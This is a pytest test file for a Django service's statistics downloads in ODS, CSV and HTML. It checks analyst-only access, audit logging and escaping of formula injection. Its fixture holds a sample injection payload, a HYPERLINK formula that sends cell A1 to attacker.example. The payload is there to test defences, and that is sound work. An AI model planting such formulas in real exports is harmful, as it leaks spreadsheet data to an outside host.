"""Downloads of a stored publication: ODS, CSV (zip or one table) and HTML, each through
accounts.rules, each an audited disclosure with recipient and justification, and every
text cell escaped against formula injection."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone
from odf import teletype
from odf.opendocument import load
from odf.table import Table, TableCell, TableRow

from msht.accounts.models import Organisation, Role, User
from msht.analytics.models import Publication
from msht.audit.models import AuditEvent, AuditEventType
from tests.accounts.factories import UserFactory, sign_in_verified

pytestmark = pytest.mark.django_db

# Text a spreadsheet would run as a formula if it were written as it is.
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
NOTE = "+1 note that a spreadsheet would read as a sum"
RELEASE = {
    "recipient": "Home Office Analysis and Insight",
    "justification": "Quarterly briefing for the modern slavery unit",
}


def _table(key: str, label: str) -> dict[str, Any]:
    return {
        "key": key,
        "title": f"NRM referrals by nationality ({key})",
        "period_title": "July to September 2024",
        "row_heading": "Nationality",
        "columns": ["Referrals: Adult", "Referrals: Total"],
        "rows": [[label, [12, 30]], ["Albania", ["[c]", 15]], ["Total", [40, 45]]],
        "notes": [NOTE],
        "dimension": "nationality",
        "period": "qtr",
        "population": "referrals",
    }


@pytest.fixture
def publication() -> Publication:
    return Publication.objects.create(
        period="2024Q3",
        published_at=timezone.now(),
        rules_version="2026.2",
        threshold=10,
        tables=[_table("nationality_qtr", FORMULA), _table("nationality_ytd", "-2+3")],
        caveats=["@SUM(A1:A9) is how a caveat could start"],
    )


def _client(role: Role) -> Client:
    user: User = UserFactory.create(
        role=role, organisation=Organisation.objects.get(code="leicester")
    )
    client = Client()
    sign_in_verified(client, user)
    return client


def _download(client: Client, publication: Publication, **answers: str) -> Any:
    return client.post(
        f"/statistics/publications/{publication.pk}/download/", {**RELEASE, **answers}
    )


def _disclosures() -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(event_type=AuditEventType.RECORD_DISCLOSED))


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"))))


def _assert_audited(response: Any, publication: Publication, file_format: str) -> None:
    (event,) = _disclosures()
    assert event.object_type == "analytics.publication"
    assert event.object_id == str(publication.pk)
    assert event.details["recipient"] == RELEASE["recipient"]
    assert event.details["justification"] == RELEASE["justification"]
    assert event.details["format"] == file_format
    assert event.details["sha256"] == hashlib.sha256(response.content).hexdigest()
    assert event.actor_username


def test_an_analyst_downloads_the_ods_with_every_formula_escaped(
    publication: Publication,
) -> None:
    response = _download(_client(Role.ANALYST), publication, file_format="ods")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.oasis.opendocument.spreadsheet"
    assert response["Content-Disposition"] == 'attachment; filename="nrm-statistics-2024Q3.ods"'
    document = load(io.BytesIO(response.content))
    sheets = {
        sheet.getAttribute("name"): [
            [teletype.extractText(cell) for cell in row.getElementsByType(TableCell)]
            for row in sheet.getElementsByType(TableRow)
        ]
        for sheet in document.spreadsheet.getElementsByType(Table)
    }
    assert {"Cover", "Contents", "Notes", "nationality_qtr", "nationality_ytd"} <= set(sheets)
    cells = [cell for rows in sheets.values() for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert "'-2+3" in cells
    assert "'" + NOTE in cells
    assert "'@SUM(A1:A9) is how a caveat could start" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert sheets["nationality_qtr"][3:] == [
        ["'" + FORMULA, "12", "30"],
        ["Albania", "[c]", "15"],
        ["Total", "40", "45"],
    ]
    _assert_audited(response, publication, "ods")


def test_every_csv_comes_in_one_zip_with_its_notes_escaped(publication: Publication) -> None:
    response = _download(_client(Role.ANALYST), publication, file_format="csv_zip")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.content)) as bundle:
        names = sorted(bundle.namelist())
        files = {name: _csv_rows(bundle.read(name)) for name in names}
    assert names == [
        "nrm-statistics-2024Q3/nationality_qtr.csv",
        "nrm-statistics-2024Q3/nationality_ytd.csv",
        "nrm-statistics-2024Q3/notes.csv",
    ]
    assert files["nrm-statistics-2024Q3/nationality_qtr.csv"] == [
        ["Nationality", "Referrals: Adult", "Referrals: Total"],
        ["'" + FORMULA, "12", "30"],
        ["Albania", "[c]", "15"],
        ["Total", "40", "45"],
    ]
    assert files["nrm-statistics-2024Q3/nationality_ytd.csv"][1][0] == "'-2+3"
    notes = files["nrm-statistics-2024Q3/notes.csv"]
    assert ["release", "'@SUM(A1:A9) is how a caveat could start"] in notes
    assert ["nationality_qtr", "'" + NOTE] in notes
    _assert_audited(response, publication, "csv_zip")


def test_one_table_downloads_as_its_own_csv(publication: Publication) -> None:
    response = _download(
        _client(Role.ANALYST), publication, file_format="csv_table", table="nationality_ytd"
    )

    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="nrm-statistics-2024Q3-nationality_ytd.csv"'
    )
    assert _csv_rows(response.content)[1] == ["'-2+3", "12", "30"]
    _assert_audited(response, publication, "csv_table")
    assert _disclosures()[0].details["table"] == "nationality_ytd"


def test_the_html_page_downloads_whole_with_its_stylesheet_and_no_script(
    publication: Publication,
) -> None:
    response = _download(_client(Role.ANALYST), publication, file_format="html")

    page = response.content.decode()
    assert response.status_code == 200
    assert response["Content-Type"] == "text/html; charset=utf-8"
    assert "<style>" in page
    assert ".statistics-release" in page
    assert "<script" not in page
    assert 'href="statistics-release.css"' not in page
    assert "July to September 2024" in page
    assert "=HYPERLINK(&quot;http://attacker.example/?&quot;&amp;A1" in page
    _assert_audited(response, publication, "html")


def test_the_publication_page_links_to_the_download_for_analysts_only(
    publication: Publication,
) -> None:
    page = f"/statistics/publications/{publication.pk}/"
    analyst = _client(Role.ANALYST).get(page).content.decode()
    governance = _client(Role.GOVERNANCE).get(page).content.decode()
    assert f"/statistics/publications/{publication.pk}/download/" in analyst
    assert "/download/" not in governance


@pytest.mark.parametrize(
    "role", [Role.GOVERNANCE, Role.FIRST_RESPONDER, Role.INVESTIGATOR, Role.ADMINISTRATOR]
)
def test_only_analysts_may_download(role: Role, publication: Publication) -> None:
    client = _client(role)
    url = f"/statistics/publications/{publication.pk}/download/"

    assert client.get(url).status_code == 403
    assert _download(client, publication, file_format="ods").status_code == 403
    assert _disclosures() == []


def test_a_publication_that_does_not_exist_answers_404() -> None:
    client = _client(Role.ANALYST)
    assert client.get("/statistics/publications/999999/download/").status_code == 404


@pytest.mark.parametrize(
    ("answers", "message"),
    [
        ({"file_format": "ods", "recipient": " "}, "Enter who the statistics are for"),
        ({"file_format": "ods", "justification": ""}, "Enter why the statistics are being"),
        ({"file_format": "csv_table", "table": ""}, "Choose the table to download as CSV"),
        ({"file_format": "csv_table", "table": "nationality_ye"}, "Select a valid choice"),
        ({"file_format": "xlsx"}, "Select a valid choice"),
        ({}, "Choose what to download"),
    ],
)
def test_a_download_without_a_recipient_reason_or_known_file_is_refused(
    publication: Publication, answers: dict[str, str], message: str
) -> None:
    response = _download(_client(Role.ANALYST), publication, **answers)

    assert response.status_code == 400
    assert message in response.content.decode()
    assert "govuk-error-summary" in response.content.decode()
    assert _disclosures() == []


def test_the_service_refuses_a_blank_recipient_and_an_unknown_table(
    publication: Publication,
) -> None:
    from msht.analytics.services import DownloadFormat, publication_download
    from msht.core.errors import ValidationError

    analyst = UserFactory.create(
        role=Role.ANALYST, organisation=Organisation.objects.get(code="leicester")
    )
    with pytest.raises(ValidationError) as blank:
        publication_download(
            analyst,
            publication=publication,
            file_format=DownloadFormat.ODS,
            recipient="  ",
            justification="\t",
        )
    with pytest.raises(ValidationError) as unknown:
        publication_download(
            analyst,
            publication=publication,
            file_format=DownloadFormat.CSV_TABLE,
            table_key="nationality_ye",
            **RELEASE,
        )
    assert len(blank.value.problems) == 2
    assert unknown.value.problems == ["The publication has no table called nationality_ye"]
    assert _disclosures() == []
